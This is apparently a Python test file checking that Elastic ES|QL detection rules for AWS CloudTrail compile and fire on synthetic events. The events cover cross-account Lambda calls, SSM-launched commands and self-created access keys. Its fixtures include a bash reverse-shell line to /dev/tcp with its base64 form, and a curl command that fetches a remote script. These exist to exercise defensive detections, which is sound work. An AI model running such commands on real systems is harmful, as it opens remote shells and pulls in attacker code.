"""Every shared Elastic CloudTrail rule parses, compiles (with no schema at all and with the ECS
field types) and runs on DuckDB; the rules that DISSECT, GROK or decode base64 find what they
look for in realistic events."""

from __future__ import annotations

import tomllib
from collections.abc import Mapping, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest

from trailsweep.engine.fields import assumed_schema
from trailsweep.engine.table import EventTableBuilder
from trailsweep.errors import Location
from trailsweep.esql import FieldSpec, Query, compile_query, parse_query

from .runner import events_table

RULES = "rules/elastic-aws-esql"
NOW = datetime(2026, 4, 2, 12, 0)
PARAMS = {"__now__": NOW}


def _rule_files(shared_dir: Path) -> list[Path]:
    files = sorted((shared_dir / RULES).glob("*.toml"))
    assert len(files) == 20
    return files


def _load(path: Path) -> Query:
    text = path.read_text(encoding="utf-8")
    query = tomllib.loads(text)["rule"]["query"]
    # The query starts on the line after `query = '''` (TOML drops that first newline).
    opening = text.index("query = '''")
    line_offset = text.count("\n", 0, opening) + 1
    return parse_query(query, origin=path.name, line_offset=line_offset)


def _sample(spec: FieldSpec) -> Any:
    value: Any = {
        "date": "2026-04-02T11:59:30Z",
        "ip": "203.0.113.7",
        "long": 64500,
        "double": 1.5,
        "boolean": True,
    }.get(spec.type, f"{spec.name}-value")
    return [value, value + "-2"] if spec.multivalued and isinstance(value, str) else value


def _run_documents(query: Query, documents: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Build the events table as the engine does, compile against its schema, run."""
    fields = sorted(query.source_fields() | {"@timestamp"})
    builder = EventTableBuilder(fields, query.source_patterns())
    for number, document in enumerate(documents):
        builder.add(document, Location("test", record=number))
    table = builder.build()
    compiled = compile_query(query, table.schema, PARAMS)
    connection = duckdb.connect()
    connection.register("events", table.table)
    rows: list[dict[str, Any]] = connection.sql(compiled.sql).to_arrow_table().to_pylist()
    connection.close()
    return rows


def test_all_rules_parse(shared_dir: Path) -> None:
    for path in _rule_files(shared_dir):
        query = _load(path)
        assert query.commands, path.name


def test_every_rule_compiles_and_runs_without_a_schema(shared_dir: Path) -> None:
    connection = duckdb.connect()
    connection.register("events", events_table([], [{}, {}]))
    for path in _rule_files(shared_dir):
        compiled = compile_query(_load(path), {}, PARAMS)
        rows = connection.sql(compiled.sql).fetchall()
        assert len(rows) <= 1, path.name


def test_every_rule_compiles_and_runs_with_the_ecs_field_types(shared_dir: Path) -> None:
    for path in _rule_files(shared_dir):
        query = _load(path)
        schema = assumed_schema(query.source_fields() | {"@timestamp"})
        compile_query(query, schema, PARAMS)
        document = {name: _sample(spec) for name, spec in schema.items()}
        _run_documents(query, [document, {"@timestamp": "2026-04-02T11:58:00Z"}])


def _rule(shared_dir: Path, name: str) -> Query:
    return _load(shared_dir / RULES / name)


def _event(**fields: Any) -> dict[str, Any]:
    event = {"data_stream.dataset": "aws.cloudtrail", "event.outcome": "success"}
    event.update({name.replace("__", "."): value for name, value in fields.items()})
    return event


def test_service_quota_requests_across_regions(shared_dir: Path) -> None:
    query = _rule(shared_dir, "discovery_servicequotas_multi_region_service_quota_requests.toml")
    regions = [f"region-{n}" for n in range(11)]
    events = [
        {
            "data_stream.dataset": "aws.cloudtrail",
            "event.provider": "servicequotas.amazonaws.com",
            "event.action": "GetServiceQuota",
            "@timestamp": f"2026-04-02T11:59:{31 + n:02d}Z",
            "cloud.region": region,
            "aws.cloudtrail.user_identity.arn": "arn:aws:iam::111111111111:user/eve",
            "aws.cloudtrail.request_parameters": "{serviceCode=ec2, quotaCode=L-1216C47A}",
        }
        for n, region in enumerate(regions)
    ]
    # Another quota code, and a request whose keys came out in the other order, do not count.
    events[9]["aws.cloudtrail.request_parameters"] = "{serviceCode=ec2, quotaCode=L-34B43A08}"
    events[10]["aws.cloudtrail.request_parameters"] = "{quotaCode=L-1216C47A, serviceCode=ec2}"
    assert _run_documents(query, events) == []
    events.append(dict(events[0], **{"cloud.region": "region-x"}))
    rows = _run_documents(query, events)
    assert len(rows) == 1
    assert rows[0]["Esql.cloud_region_count_distinct"] == 10
    assert rows[0]["Esql.event_count"] == 10


def test_s3_copy_encrypted_with_another_accounts_key(shared_dir: Path) -> None:
    query = _rule(shared_dir, "impact_s3_object_encryption_with_external_key.toml")
    parameters = (
        "{{bucketName=dest-bucket, x-amz-server-side-encryption-aws-kms-key-id="
        "arn:aws:kms:us-east-1:{account}:key/1234abcd-12ab-34cd-56ef-1234567890ab, "
        "Host=dest-bucket.s3.us-east-1.amazonaws.com, x-amz-server-side-encryption=aws:kms, "
        "x-amz-copy-source=src-bucket/report.pdf, key=report.pdf}}"
    )
    events = [
        _event(
            event__provider="s3.amazonaws.com",
            event__action="CopyObject",
            cloud__account__id="111111111111",
            aws__cloudtrail__request_parameters=parameters.format(account=account),
            **{"@timestamp": "2026-04-02T11:59:00Z"},
        )
        for account in ("999999999999", "111111111111")
    ]
    rows = _run_documents(query, events)
    assert len(rows) == 1
    prefix = "Esql.aws_cloudtrail_request_parameters_"
    assert {key: value for key, value in rows[0].items() if key.startswith(prefix)} == {
        f"{prefix}target_bucket_name": "dest-bucket",
        f"{prefix}target_object_key": "report.pdf",
        f"{prefix}kms_key_account_id": "999999999999",
        f"{prefix}kms_key_id": "1234abcd-12ab-34cd-56ef-1234567890ab",
    }
    assert rows[0]["__evidence"] == [0]


def test_lambda_invoked_from_another_account(shared_dir: Path) -> None:
    query = _rule(shared_dir, "execution_lambda_function_invoked_cross_account.toml")

    def invoke(caller: str, owner: str) -> dict[str, Any]:
        return _event(
            event__provider="lambda.amazonaws.com",
            event__action="Invoke",
            aws__cloudtrail__user_identity__arn=f"arn:aws:sts::{caller}:assumed-role/r/s",
            aws__cloudtrail__request_parameters=(
                f"{{functionName=arn:aws:lambda:us-east-1:{owner}:function:fn, qualifier=$LATEST}}"
            ),
            **{"@timestamp": "2026-04-02T11:30:00Z"},
        )

    rows = _run_documents(
        query, [invoke("111111111111", "222222222222"), invoke("3" * 12, "3" * 12)]
    )
    assert [(r["Esql.caller_account"], r["Esql.function_account"]) for r in rows] == [
        ("111111111111", "222222222222")
    ]
    assert rows[0]["Esql.invocation_count"] == 1


def test_ssm_command_followed_by_a_lolbin_on_the_host(shared_dir: Path) -> None:
    query = _rule(shared_dir, "execution_aws_ec2_lolbin_via_ssm.toml")
    command = "5f2a1b3c-aaaa-bbbb-cccc-0123456789ab"
    cloud = _event(
        event__action="SendCommand",
        aws__cloudtrail__request_parameters="{documentName=AWS-RunShellScript, instanceIds=[i-1]}",
        aws__cloudtrail__response_elements=f"{{command={{commandId={command}, status=Pending}}}}",
        **{"@timestamp": "2026-04-02T11:55:00Z"},
    )
    process = {
        "data_stream.dataset": "endpoint.events.process",
        "host.os.type": "linux",
        "host.name": "web-1",
        "process.name": "curl",
        "process.command_line": "curl http://203.0.113.9/x.sh",
        "process.parent.command_line": (
            f"/bin/sh /var/lib/amazon/ssm/i-1/document/orchestration/{command}"
            "/awsrunShellScript/0.awsrunShellScript/_script.sh"
        ),
        "@timestamp": "2026-04-02T11:57:00Z",
    }
    rows = _run_documents(query, [cloud, process])
    assert len(rows) == 1
    assert rows[0]["Esql.aws_cloudtrail_event_count"] == 1
    assert rows[0]["Esql.endpoint_events_process_lolbin_count"] == 1
    assert rows[0]["Esql.process_name_lolbin_values"] == ["curl"]
    assert rows[0]["__evidence"] == [0, 1]


@pytest.mark.parametrize(
    ("rule", "events", "expected"),
    [
        (
            "execution_ec2_stop_start_with_user_data_modification.toml",
            [
                {"event.action": action, "aws.cloudtrail.request_parameters": parameters}
                for action, parameters in [
                    ("StopInstances", "{instancesSet={items=[{instanceId=i-0abc}]}, force=false}"),
                    ("ModifyInstanceAttribute", "{instanceId=i-0abc, userData=<sensitive>}"),
                    ("StartInstances", "{instancesSet={items=[{instanceId=i-0abc}]}}"),
                ]
            ],
            {"Esql.instance_id": "i-0abc"},
        ),
    ],
)
def test_grok_rules_group_by_what_they_extract(
    shared_dir: Path, rule: str, events: list[dict[str, Any]], expected: dict[str, Any]
) -> None:
    query = _rule(shared_dir, rule)
    common = _event(
        event__provider="ec2.amazonaws.com",
        user__name="eve",
        aws__cloudtrail__user_identity__type="IAMUser",
        user_agent__original="aws-cli/2.15.0",
        source__address="203.0.113.7",
        **{"@timestamp": "2026-04-02T11:50:00Z"},
    )
    rows = _run_documents(query, [dict(common, **event) for event in events])
    assert len(rows) == 1
    assert {key: rows[0][key] for key in expected} == expected


def test_sagemaker_lifecycle_script_is_decoded(shared_dir: Path) -> None:
    query = _rule(
        shared_dir, "persistence_sagemaker_lifecycle_config_suspicious_script_content.toml"
    )
    script = "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/443 0>&1\n"
    encoded = "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDMgMD4mMQo="

    def config(content: str) -> dict[str, Any]:
        return _event(
            event__provider="sagemaker.amazonaws.com",
            event__action="CreateNotebookInstanceLifecycleConfig",
            aws__cloudtrail__user_identity__type="IAMUser",
            aws__cloudtrail__request_parameters=(
                f"{{notebookInstanceLifecycleConfigName=cfg, onStart=[{{content={content}}}]}}"
            ),
            **{"@timestamp": "2026-04-02T11:59:00Z"},
        )

    benign = "ZWNobyBoZWxsbwo="  # "echo hello\n"
    rows = _run_documents(query, [config(encoded), config(benign), config("%%%")])
    assert [row["Esql_priv.aws_cloudtrail_lifecycle_script"] for row in rows] == [script]
    assert rows[0]["__evidence"] == [0]


def test_access_key_created_by_a_user_then_used(shared_dir: Path) -> None:
    query = _rule(shared_dir, "persistence_iam_user_self_created_access_key_subsequently_used.toml")
    arn = "arn:aws:iam::111111111111:user/bob"
    common = {
        "aws.cloudtrail.user_identity.type": "IAMUser",
        "aws.cloudtrail.user_identity.arn": arn,
        "cloud.account.id": "111111111111",
        "user.name": "bob",
    }
    created = _event(
        event__provider="iam.amazonaws.com",
        event__action="CreateAccessKey",
        aws__cloudtrail__user_identity__access_key_id="ASIAOLDSESSIONKEY000",
        aws__cloudtrail__response_elements=(
            "{accessKey={accessKeyId=AKIAIOSFODNN7EXAMPLE, status=Active, userName=bob, "
            "createDate=Apr 2, 2026 11:00:00 AM}}"
        ),
        **common,
        **{"@timestamp": "2026-04-02T11:00:00Z"},
    )
    used = _event(
        event__provider="s3.amazonaws.com",
        event__action="ListBuckets",
        aws__cloudtrail__user_identity__access_key_id="AKIAIOSFODNN7EXAMPLE",
        **common,
        **{"@timestamp": "2026-04-02T11:20:00Z"},
    )
    rows = _run_documents(query, [created, used])
    assert len(rows) == 1
    row = rows[0]
    assert row["Esql_priv.aws_cloudtrail_access_key_id_correlation"] == "AKIAIOSFODNN7EXAMPLE"
    assert row["Esql.aws_cloudtrail_self_access_key_creation_count"] == 1
    assert row["Esql.aws_cloudtrail_created_access_key_use_count"] == 1
    assert row["Esql.event_action_created_access_key_use_values"] == ["ListBuckets"]


def test_web_identity_session_key_is_taken_from_the_response(shared_dir: Path) -> None:
    query = _rule(
        shared_dir, "lateral_movement_k8_assumed_web_identity_session_with_multi_phase_api_use.toml"
    )
    key = "ASIAQWERTYUIOP123456"
    assume = _event(
        event__action="AssumeRoleWithWebIdentity",
        user__name="system:serviceaccount:default:app",
        aws__cloudtrail__response_elements=(
            f"{{credentials={{accessKeyId={key}, sessionToken=xyz, "
            "expiration=Apr 2, 2026 12:00:00 PM}, provider=oidc}"
        ),
        **{"@timestamp": "2026-04-02T11:00:00Z"},
    )
    calls = [
        _event(
            event__action=action,
            aws__cloudtrail__user_identity__type="AssumedRole",
            aws__cloudtrail__user_identity__access_key_id=key,
            **{"@timestamp": f"2026-04-02T11:0{n + 1}:00Z"},
        )
        for n, action in enumerate(["ListBuckets", "GetSecretValue", "CreateUser"])
    ]
    rows = _run_documents(query, [assume, *calls])
    assert len(rows) == 1
    assert rows[0]["aws.cloudtrail.user_identity.access_key_id"] == key
    assert rows[0]["Esql.assume_count"] == 1
    assert sorted(rows[0]["Esql.attack_phases"]) == [
        "credential_access",
        "initial_access",
        "persistence",
        "recon",
    ]
